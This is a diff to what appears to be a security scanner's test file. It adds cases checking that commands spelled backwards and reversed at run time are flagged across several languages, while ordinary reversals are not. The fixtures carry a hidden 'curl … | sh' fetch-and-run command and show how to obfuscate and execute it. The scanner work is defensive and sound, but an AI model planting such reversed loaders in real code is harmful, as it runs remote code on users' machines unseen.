@@ -1684,6 +1684,26 @@ describe('obfuscated-code: a command assembled from fragments or character codes
   });
 });
 
+describe('obfuscated-code: a command spelled backwards, turned around and run', () => {
+  const ids = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })]).map((f) => `${f.id} ${f.severity}`);
+  const BACKWARDS = 'hs | ved.pord-ekat//:sptth s- lruc';
+  it('reads JavaScript, Python, PHP, Ruby, Java, C# and shell reversals beside a sink of the hunk', () => {
+    expect(ids('src/util.js', [`const c = '${BACKWARDS}'.split('').reverse().join('');`, "require('child_process').execSync(c);"])).toContain('obfuscated-code high');
+    expect(ids('src/util.js', [`const u = '${BACKWARDS}';`, "execSync([...u].reverse().join(''));"])).toContain('obfuscated-code high');
+    expect(ids('pkg/__init__.py', [`os.system('${BACKWARDS}'[::-1])`])).toContain('obfuscated-code high');
+    expect(ids('pkg/boot.py', ['cmd = "".join(reversed(PARTS))', 'subprocess.run(cmd, shell=True)'])).toContain('obfuscated-code high');
+    expect(ids('src/Boot.php', [`$c = strrev('${BACKWARDS}');`, 'shell_exec($c);'])).toContain('obfuscated-code high');
+    expect(ids('lib/boot.rb', [`system('${BACKWARDS}'.reverse)`])).toContain('obfuscated-code high');
+    expect(ids('src/main/java/com/acme/Boot.java', [`String c = new StringBuilder("${BACKWARDS}").reverse().toString();`, 'Runtime.getRuntime().exec(new String[] {"sh", "-c", c});'])).toContain('obfuscated-code high');
+    expect(ids('scripts/setup.sh', [`echo '${BACKWARDS}' | rev | sh`])).toContain('obfuscated-code high');
+  });
+  it('a reverse-DNS name, a list reversed and the shell idiom for a file extension are not', () => {
+    expect(ids('scripts/publish.js', ["const bundleId = new URL(pkg.homepage).hostname.split('.').reverse().join('.');", 'execSync(`xcrun altool --upload --bundle-id ${bundleId}`);'])).not.toContain('obfuscated-code high');
+    expect(ids('pkg/steps.py', ['for step in steps[::-1]:', '    subprocess.run(step.command, shell=True)'])).not.toContain('obfuscated-code high');
+    expect(ids('scripts/check.sh', ['for f in dist/*; do', '  ext=$(echo "$f" | rev | cut -d. -f1 | rev)', '  eval "check_$ext \\"$f\\""', 'done'])).not.toContain('obfuscated-code high');
+  });
+});
+
 describe('crypto-wallet-hook: the chalk and debug drainer of September 2025', () => {
   const hook = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })]).find((f) => f.id === 'crypto-wallet-hook')?.severity;
   const ADDRESSES = ["const a = ['0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976', '0xa29eeFb6f2D3A1A2d2f5e3E6e0C1b1B6c4F1d2E3'];"];
